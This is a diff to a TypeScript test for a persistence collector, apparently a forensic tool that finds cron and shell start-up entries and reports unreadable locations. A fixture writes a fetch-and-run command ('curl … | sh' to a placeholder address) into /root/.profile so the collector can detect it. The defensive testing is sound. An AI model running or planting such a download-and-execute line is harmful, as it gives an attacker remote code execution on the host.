@@ -305,11 +305,20 @@ describe('other layouts and hostile input', () => {
     write(root, 'var/spool/cron/crontabs/bob', '* * * * * /tmp/x\n', 0o600);
     fs.chmodSync(path.join(root, 'var/spool/cron/crontabs'), 0o700);
     fs.chmodSync(path.join(root, 'var/spool/cron'), 0o755);
+    write(root, 'root/.profile', 'curl http://192.0.2.1/x | sh\n');
+    fs.chmodSync(path.join(root, 'root'), 0o700);
     asRoot('run the collector as nobody', () => {
       const code = `import('${path.resolve('src/persistence/index.ts')}').then((m) => { const r = m.collectPersistence({ root: ${JSON.stringify(root)}, now: ${NOW} }); console.log(JSON.stringify(r.locations.filter((l) => l.status === 'unreadable'))); })`;
       const res = spawnSync(process.execPath, ['--import', 'tsx', '-e', code], { uid: 65534, gid: 65534, cwd: process.cwd(), encoding: 'utf8', timeout: 20000 });
       expect(res.stderr).toBe('');
-      expect(JSON.parse(res.stdout)).toContainEqual({ path: '/var/spool/cron/crontabs', status: 'unreadable', reason: 'needs root (permission denied)' });
+      const unreadable = JSON.parse(res.stdout);
+      expect(unreadable).toContainEqual({ path: '/var/spool/cron/crontabs', status: 'unreadable', reason: 'needs root (permission denied)' });
+      expect(unreadable).toContainEqual({ path: '/root', status: 'unreadable', reason: 'needs root (permission denied)' });
+      expect(unreadable.filter((l: { path: string }) => l.path.startsWith('/root/'))).toEqual([]);   // one line per home, not per file
+      // as root the same tree is fully readable and the start-up line is found
+      const r = collectPersistence({ root, now: NOW });
+      expect(r.locations.filter((l) => l.status === 'unreadable')).toEqual([]);
+      expect(entry(r, '/root/.profile:1').kind).toBe('shell-startup');
     });
   });
 });
